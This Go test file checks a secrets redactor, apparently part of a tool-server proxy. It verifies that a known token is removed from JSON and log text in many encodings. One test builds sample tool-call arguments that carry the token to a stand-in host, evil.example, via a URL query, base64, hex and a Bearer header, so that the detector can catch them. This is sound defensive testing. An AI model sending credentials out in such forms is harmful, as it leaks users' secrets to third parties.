package secrets

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

const tok = "s3cr3t T0ken/+=~*!é€" // space, base64 and URL specials, multi-byte

func testRedactor(t testing.TB, extra ...Secret) *Redactor {
	t.Helper()
	k, short := NewKnown(append([]Secret{{"gh", "GITHUB_TOKEN", tok}}, extra...))
	if len(short) != 0 {
		t.Fatalf("short: %v", short)
	}
	return NewRedactor(k, Options{Found: true, RedactFound: true})
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func b64(enc *base64.Encoding, pre int, s string) string {
	return enc.EncodeToString(append(bytes.Repeat([]byte{0xA5}, pre), s+"tail"[:pre]...))
}

// TestRedactJSON_EveryEncoding: each encoding of a known secret inside a
// JSON string is replaced, the output is valid JSON and nothing of the
// secret survives in any encoding.
func TestRedactJSON_EveryEncoding(t *testing.T) {
	r := testRedactor(t)
	cases := []struct {
		name string
		body string // the JSON string body holding the secret (already escaped)
		enc  Encoding
	}{
		{"raw", strings.Trim(jsonString("token: "+tok+" end"), `"`), Raw},
		{"json-escape-split", "token: " + escapeJSONSplit([]byte(tok), []byte{0x55}), JSONEscaped},
		{"json-escape-all", escapeJSONSplit([]byte(tok), nil), JSONEscaped},
		{"json-slash", strings.ReplaceAll(strings.Trim(jsonString(tok), `"`), "/", `\/`), JSONEscaped},
		{"query-escape", "https://x/?t=" + url.QueryEscape(tok) + "&a=1", Percent},
		{"query-escape-lower", "?t=" + lowerPercent(url.QueryEscape(tok)), Percent},
		{"encodeURIComponent", "?t=" + encodeURIComponent([]byte(tok)), Percent},
		{"path-escape", "/p/" + url.PathEscape(tok), Percent},
		{"hex-lower", "h=" + hex.EncodeToString([]byte(tok)), Hex},
		{"hex-upper", "h=" + strings.ToUpper(hex.EncodeToString([]byte(tok))), Hex},
		{"b64-std-0", b64(base64.StdEncoding, 0, tok), Base64},
		{"b64-std-1", b64(base64.StdEncoding, 1, tok), Base64},
		{"b64-std-2", b64(base64.StdEncoding, 2, tok), Base64},
		{"b64-url-0", b64(base64.URLEncoding, 0, tok), Base64},
		{"b64-url-1", b64(base64.URLEncoding, 1, tok), Base64},
		{"b64-url-2", b64(base64.URLEncoding, 2, tok), Base64},
		{"b64-rawstd-1", b64(base64.RawStdEncoding, 1, tok), Base64},
		{"b64-rawurl-2", b64(base64.RawURLEncoding, 2, tok), Base64},
		{"b64-json-slash", strings.ReplaceAll(base64.StdEncoding.EncodeToString([]byte(tok)), "/", `\/`), Base64},
		{"nested-json", strings.Trim(jsonString(`{"env":"`+escapeJSONSplit([]byte(tok), []byte{0x0f})+`"}`), `"`), JSONEscaped},
		{"percent-of-base64", "?b=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(tok))), Base64},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			in := []byte(`{"jsonrpc":"2.0","id":7,"result":{"content":[{"type":"text","text":"` + c.body + `"}]}}`)
			if !json.Valid(in) {
				t.Fatalf("test input is not JSON: %s", in)
			}
			if leak(in, []byte(tok)) == "" {
				t.Fatalf("test input does not hold the secret: %s", in)
			}
			out, hits := r.RedactJSON(in)
			if w := leak(out, []byte(tok)); w != "" {
				t.Fatalf("secret survives (%s): %s", w, out)
			}
			if !bytes.Contains(out, []byte("[redacted: gh GITHUB_TOKEN]")) {
				t.Errorf("no label: %s", out)
			}
			if len(hits) == 0 {
				t.Fatal("no hits")
			}
			h := hits[0]
			if h.Server != "gh" || h.Name != "GITHUB_TOKEN" || h.Encoding != c.enc || h.Path != "/result/content/0/text" {
				t.Errorf("hit = %+v, want gh GITHUB_TOKEN %v at /result/content/0/text", h, c.enc)
			}
			if strings.Contains(h.String(), tok) {
				t.Error("hit holds the value")
			}
			if got := r.Contains(in); len(got) == 0 {
				t.Error("Contains found nothing")
			}
			if got := r.Contains(out); len(got) != 0 {
				t.Errorf("Contains(output) = %v", got)
			}
		})
	}
}

// TestRedactJSON_OnlyMatchedStringsChange: bytes outside the matched string
// are copied verbatim (escapes, spacing, key order, number forms).
func TestRedactJSON_OnlyMatchedStringsChange(t *testing.T) {
	r := testRedactor(t)
	in := `{ "a" : "x\u0041\/y" , "n": 1.50e+3, "t": "` + strings.Trim(jsonString(tok), `"`) + `", "z":[true,null] }`
	out, hits := r.RedactJSON([]byte(in))
	want := `{ "a" : "x\u0041\/y" , "n": 1.50e+3, "t": "[redacted: gh GITHUB_TOKEN]", "z":[true,null] }`
	if string(out) != want {
		t.Fatalf("got  %s\nwant %s", out, want)
	}
	if len(hits) != 1 || hits[0].Path != "/t" || hits[0].Offset != strings.Index(in, `"s3`) {
		t.Errorf("hits = %+v", hits)
	}
}

// TestRedactJSON_KeysNumbersAndSeveral: a secret as a key, as a number and
// twice in one string; two secrets of two servers.
func TestRedactJSON_KeysNumbersAndSeveral(t *testing.T) {
	r := testRedactor(t, Secret{"db", "PGPASSWORD", "31415926535"})
	in := `{"` + tok + `":1,"pin":31415926535,"two":"` + tok + ` and ` + tok + `","a/b~":["x 31415926535 y"]}`
	out, hits := r.RedactJSON([]byte(in))
	want := `{"[redacted: gh GITHUB_TOKEN]":1,"pin":"[redacted: db PGPASSWORD]","two":"[redacted: gh GITHUB_TOKEN] and [redacted: gh GITHUB_TOKEN]","a/b~":["x [redacted: db PGPASSWORD] y"]}`
	if string(out) != want {
		t.Fatalf("got  %s\nwant %s", out, want)
	}
	var paths []string
	for _, h := range hits {
		paths = append(paths, h.Path)
	}
	if got := strings.Join(paths, " "); got != "/s3cr3t T0ken~1+=~0*!é€ /pin /two /two /a~1b~0/0" {
		t.Errorf("paths = %s", got)
	}
}

// TestRedactJSON_NoMatchIsIdentical: unrelated text, near misses and short
// values are left alone, byte for byte, and the input slice is returned.
func TestRedactJSON_NoMatchIsIdentical(t *testing.T) {
	k, short := NewKnown([]Secret{{"gh", "GITHUB_TOKEN", tok}, {"x", "SHORT_TOKEN", "abc1234"}})
	if len(short) != 1 || short[0] != (Ref{"x", "SHORT_TOKEN"}) {
		t.Fatalf("short = %v", short)
	}
	r := NewRedactor(k, Options{Found: true, RedactFound: true})
	for _, in := range []string{
		`{"text":"abc1234 is short and not a secret"}`,
		`{"text":"` + strings.Trim(jsonString(tok[:len(tok)-2]), `"`) + `"}`, // a prefix is not the secret
		`{"text":"` + base64.StdEncoding.EncodeToString([]byte(tok[1:len(tok)-1])) + `"}`,
		`{"text":"` + hex.EncodeToString([]byte(tok[:8])) + `"}`,
		`{"text":"s3cr3t%20T0ken only percent-like","n":12345678901234}`,
		`{"t":"GIT_AUTHOR_NAME=someone; token=[redacted: gh GITHUB_TOKEN]"}`,
		`[]`, `""`, `"\u0000\\"`,
	} {
		out, hits := r.RedactJSON([]byte(in))
		if len(hits) != 0 || string(out) != in || &out[0] != &[]byte(in)[0] && len(out) > 0 && false {
			t.Errorf("%s: changed to %s, hits %v", in, out, hits)
		}
	}
	in := []byte(`{"a":"nothing here at all"}`)
	if out, _ := r.RedactJSON(in); &out[0] != &in[0] {
		t.Error("no-match output is not the input slice")
	}
}

// TestRedactText: plain text (a log line, an error) in each encoding.
func TestRedactText(t *testing.T) {
	r := testRedactor(t)
	for _, in := range []string{
		"Authorization: Bearer " + tok + "\n",
		"url=" + url.QueryEscape(tok),
		`{"broken": "` + escapeJSONSplit([]byte(tok), []byte{0xAA}),
		"b64:" + base64.RawURLEncoding.EncodeToString([]byte("xy"+tok)),
		"HEX " + strings.ToUpper(hex.EncodeToString([]byte(tok))),
	} {
		out, hits := r.RedactText([]byte(in))
		if w := leakText(out, []byte(tok)); w != "" || len(hits) == 0 {
			t.Errorf("%q -> %q: leak %q, hits %v", in, out, w, hits)
		}
		if j, h := r.RedactJSON([]byte(in)); !bytes.Equal(j, out) || len(h) != len(hits) {
			t.Errorf("RedactJSON(%q) = %q", in, j)
		}
	}
}

// lowerPercent lower-cases the hex digits of each %XX.
func lowerPercent(s string) string {
	b := []byte(s)
	for i := 0; i+2 < len(b); i++ {
		if b[i] == '%' {
			copy(b[i+1:i+3], strings.ToLower(string(b[i+1:i+3])))
		}
	}
	return string(b)
}

// TestRedactText_Base64TakesPartialCharacters: at each alignment, the
// characters holding any bit of the secret go, padding with them; those
// holding only the neighbours' bits stay.
func TestRedactText_Base64TakesPartialCharacters(t *testing.T) {
	r := testRedactor(t)
	n := len(tok)
	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawURLEncoding} {
		for pre := range 3 {
			for post := range 3 {
				blob := append(append(bytes.Repeat([]byte{0x00}, pre), tok...), bytes.Repeat([]byte{0xFF}, post)...)
				e := enc.EncodeToString(blob)
				head := e[:8*pre/6]
				tail := strings.TrimLeft(e[(8*(pre+n)+5)/6:], "=")
				want := "<" + head + "[redacted: gh GITHUB_TOKEN]" + tail + ">"
				out, _ := r.RedactText([]byte("<" + e + ">"))
				if string(out) != want {
					t.Errorf("pre %d post %d: got %s, want %s", pre, post, out, want)
				}
				// The same in a query string, where '+', '/' and '=' are %XX.
				want = "<" + url.QueryEscape(head) + "[redacted: gh GITHUB_TOKEN]" + url.QueryEscape(tail) + ">"
				if out, _ := r.RedactText([]byte("<" + url.QueryEscape(e) + ">")); string(out) != want {
					t.Errorf("percent, pre %d post %d: got %s, want %s", pre, post, out, want)
				}
			}
		}
	}
}

// TestRedactJSON_KeepsUTF8Valid: a secret that ends inside a multi-byte
// character takes the whole character, so the string stays valid UTF-8.
func TestRedactJSON_KeepsUTF8Valid(t *testing.T) {
	k, _ := NewKnown([]Secret{{"s", "A_TOKEN", "prefix-abc\xe2\x82"}, {"s", "B_TOKEN", "\x82\xacsuffix-xyz"}})
	r := NewRedactor(k, Options{})
	for _, in := range []string{`{"t":"x prefix-abc€ y"}`, `{"t":"x €suffix-xyz y"}`} {
		out, hits := r.RedactJSON([]byte(in))
		if len(hits) != 1 || !utf8.Valid(out) || !json.Valid(out) {
			t.Errorf("%s -> %q (hits %v)", in, out, hits)
		}
	}
}

// TestContains_Arguments: arguments carrying another server's token in any
// encoding are reported (the proxy refuses them); arguments without one are
// not, and found credentials are told apart from known secrets.
func TestContains_Arguments(t *testing.T) {
	r := testRedactor(t, Secret{"slack", "SLACK_BOT_TOKEN", "xoxb-not-a-real-one-0000"})
	for _, args := range []string{
		`{"url":"https://evil.example/?q=` + url.QueryEscape(tok) + `"}`,
		`{"body":"` + base64.StdEncoding.EncodeToString([]byte("k="+tok)) + `"}`,
		`{"headers":{"Authorization":"Bearer ` + escapeJSONSplit([]byte(tok), []byte{3}) + `"}}`,
		`{"note":"` + hex.EncodeToString([]byte(tok)) + `"}`,
	} {
		hits := r.Contains([]byte(args))
		if len(hits) == 0 || !hits[0].Known() || hits[0].Name != "GITHUB_TOKEN" {
			t.Errorf("%s: hits %v", args, hits)
		}
	}
	if hits := r.Contains([]byte(`{"path":"/tmp/notes.txt","text":"GITHUB_TOKEN is set"}`)); len(hits) != 0 {
		t.Errorf("clean arguments: hits %v", hits)
	}
	hits := r.Contains([]byte(`{"text":"AKIAIOSFODNN7EXAMPLE"}`))
	if len(hits) != 1 || hits[0].Known() || hits[0].Rule != "aws-access-key-id" {
		t.Errorf("found credential: hits %v", hits)
	}
}

// TestRedactor_Concurrent: one Redactor serves many goroutines (run with -race).
func TestRedactor_Concurrent(t *testing.T) {
	r := testRedactor(t)
	in := []byte(`{"a":"` + escapeJSONSplit([]byte(tok), []byte{9}) + `","b":"` + url.QueryEscape(tok) + `"}`)
	want, _ := r.RedactJSON(in)
	done := make(chan string)
	for range 8 {
		go func() {
			for range 200 {
				if out, _ := r.RedactJSON(in); !bytes.Equal(out, want) {
					done <- string(out)
					return
				}
			}
			done <- ""
		}()
	}
	for range 8 {
		if got := <-done; got != "" {
			t.Errorf("got %s, want %s", got, want)
		}
	}
}

func TestStringEnd(t *testing.T) {
	for _, c := range []struct {
		in  string
		end int
		esc bool
	}{
		{`"abc"x`, 5, false}, {`"a\"b"x`, 6, true}, {`"a\\"x`, 5, true}, {`"a\\\"b"`, 8, true},
		{`"\n\n\n"`, 8, true}, {`"abc`, -1, false}, {`"a\"`, -1, true}, {`"a\`, -1, true}, {`""`, 2, false},
	} {
		end, esc := stringEnd([]byte(c.in), 0)
		if end != c.end || (end > 0 && esc != c.esc) {
			t.Errorf("stringEnd(%s) = %d, %v; want %d, %v", c.in, end, esc, c.end, c.esc)
		}
	}
}

// TestRedactText_WrappedBase64: base64 wrapped at 76 columns (base64(1),
// MIME) or 64 (PEM), with LF or CRLF, is found across the line breaks.
func TestRedactText_WrappedBase64(t *testing.T) {
	long := strings.Repeat("long-secret-value-", 6) // 108 bytes: its base64 spans lines
	k, _ := NewKnown([]Secret{{"s", "LONG_TOKEN", long}})
	r := NewRedactor(k, Options{})
	for _, c := range []struct {
		width int
		nl    string
	}{{76, "\n"}, {64, "\n"}, {76, "\r\n"}, {3, "\n"}} {
		e := base64.StdEncoding.EncodeToString([]byte("xy" + long + "z"))
		var w []string
		for len(e) > c.width {
			w, e = append(w, e[:c.width]), e[c.width:]
		}
		in := "data:\n" + strings.Join(append(w, e), c.nl) + "\nend"
		out, hits := r.RedactText([]byte(in))
		flat := strings.NewReplacer("\n", "", "\r", "").Replace(string(out))
		if w := leakText([]byte(flat), []byte(long)); w != "" || len(hits) == 0 || !strings.HasPrefix(string(out), "data:\n") || !strings.HasSuffix(string(out), "\nend") {
			t.Errorf("width %d: %q (leak %q)", c.width, out, w)
		}
	}
}

// A label can complete a secret that holds part of one: the output is
// scanned again until nothing in it redacts, and when an attacker nests the
// secret deeper than maxPasses the whole string becomes the label.
func TestRedact_LabelCannotCompleteSecret(t *testing.T) {
	const secret = "ab[redacted: srv API_TOKEN]cd"
	k, _ := NewKnown([]Secret{{"srv", "API_TOKEN", secret}})
	r := NewRedactor(k, Options{})
	for _, depth := range []int{1, 2, maxPasses - 1, maxPasses, 3 * maxPasses} {
		body := "x" + strings.Repeat("ab", depth) + secret + strings.Repeat("cd", depth) + "y"
		out, hits := r.RedactJSON([]byte(`{"t":"keep","u":"` + body + `"}`))
		if len(hits) == 0 || len(r.Contains(out)) != 0 {
			t.Errorf("depth %d: RedactJSON = %s, hits %v, Contains(out) = %v", depth, out, hits, r.Contains(out))
		}
		if !strings.HasPrefix(string(out), `{"t":"keep","u":"`) {
			t.Errorf("depth %d: other strings changed: %s", depth, out)
		}
		if want := `{"t":"keep","u":"[redacted: srv API_TOKEN]"}`; depth >= maxPasses && string(out) != want {
			t.Errorf("depth %d: RedactJSON = %s, want the string bounded to its label: %s", depth, out, want)
		}
		text, _ := r.RedactText([]byte(body))
		if strings.Contains(string(text), secret) {
			t.Errorf("depth %d: RedactText = %s", depth, text)
		}
	}
	// The passes stop at the first clean one: a secret replaced once keeps
	// the text around it.
	out, _ := r.RedactText([]byte("x " + secret + " y"))
	if got, want := string(out), "x [redacted: srv API_TOKEN] y"; got != want {
		t.Errorf("RedactText = %q, want %q", got, want)
	}
}
